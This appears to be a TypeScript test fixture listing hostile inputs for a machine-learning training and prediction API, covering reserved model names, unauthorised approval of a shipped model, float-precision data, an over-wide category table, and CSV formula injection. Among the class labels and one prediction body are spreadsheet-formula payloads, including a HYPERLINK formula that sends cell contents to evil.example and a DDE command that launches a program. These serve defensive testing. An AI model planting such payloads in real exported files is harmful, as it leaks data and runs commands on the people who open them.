/**
 * Hostile and careless training input (issue #20, items 8, 9, 12, 13): names a training may not take, labels made
 * to run as spreadsheet formulas, magnitudes float32 rounds, and a table whose one-hot width used to blow the time
 * budget. See case.ts for the shape; tests/unit/automl-*.test.ts, tests/unit/csv-injection.test.ts,
 * tests/unit/trainable-names.test.ts and tests/integration/automl.test.ts check each fix closely.
 */
import type { HostileCase } from './case';

const table = (header: string, rows: number, row: (i: number) => string) =>
  [header, ...Array.from({ length: rows }, (_, i) => row(i))].join('\n') + '\n';

/** Two classes whose names a spreadsheet would run: learnt, they come back in every scored CSV. */
const FORMULA_LABELS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
const injectedLabels = table('x,y,label', 60, (i) => `${i % 4},${(i * 7) % 11},"${FORMULA_LABELS[i % 4]!.replace(/"/g, '""')}"`);

const housePrices = table('surface,rooms,price', 200, (i) => {
  const surface = 10 + ((i * 37) % 190);
  return `${surface},${1 + (i % 6)},${(12345.678 * surface).toFixed(3)}`;
});

/** 20 category columns of 50 values (about 80 KB): 20 s with a 5 s budget before every candidate was bounded. */
const wideCategories = table([...Array.from({ length: 20 }, (_, j) => `c${j}`), 'target'].join(','), 1000, (i) =>
  [...Array.from({ length: 20 }, (_, j) => `v${(i * (j + 3) + j * 11) % 50}`), ['low', 'mid', 'high'][i % 3]].join(','),
);

const small = table('x,y', 40, (i) => `${i % 5},${i % 2 === 0 ? 'a' : 'b'}`);

export const cases: HostileCase[] = [
  ...['digits', 'iris', 'car-detector', 'sensor-anomaly'].map((model): HostileCase => ({
    name: `a training named after the shipped model ${model}`,
    issue: '#20.12',
    via: 'training',
    model,
    query: 'target=y',
    body: small,
    answer: { status: 409, code: 'reserved-model-name' },
  })),
  {
    name: 'a training named unknown (reserved for names outside the registry)',
    issue: '#20.12',
    via: 'training',
    model: 'unknown',
    query: 'target=y',
    body: small,
    answer: { status: 409, code: 'reserved-model-name' },
  },
  {
    name: 'approving a version of a shipped model',
    issue: '#20.12',
    via: 'http',
    method: 'POST',
    path: '/v1/models/digits/versions/1.1.0/approval',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ decision: 'approved', approver: 'Mallory' }),
    answer: { status: 404, code: 'model-not-found' },
  },
  {
    name: 'class labels that are spreadsheet formulas',
    issue: '#20.9',
    via: 'training',
    model: 'hostile-formula-labels',
    query: 'target=label&timeBudgetSeconds=5',
    body: injectedLabels,
    answer: { status: 202, final: { status: 'succeeded' } },
  },
  {
    name: 'a CSV to score whose cells are spreadsheet formulas, answered as CSV',
    issue: '#20.9',
    via: 'http',
    method: 'POST',
    path: '/v1/models/iris/predict',
    headers: { 'content-type': 'text/csv', accept: 'text/csv' },
    body: 'sepal_length,sepal_width,petal_length,petal_width,note\n5.1,3.5,1.4,0.2,"=HYPERLINK(""http://evil.example"")"\n',
    answer: { status: 200 },
  },
  {
    name: 'a regression on house prices (y = 12345.678 × surface)',
    issue: '#20.8',
    via: 'training',
    model: 'hostile-house-prices',
    query: 'target=price&timeBudgetSeconds=5',
    body: housePrices,
    answer: { status: 202, final: { status: 'succeeded' } },
  },
  {
    name: '20 category columns of 50 values with a 5 s budget',
    issue: '#20.13',
    via: 'training',
    model: 'hostile-wide-categories',
    query: 'target=target&timeBudgetSeconds=5',
    body: wideCategories,
    answer: { status: 202, final: { status: 'succeeded' } },
  },
];
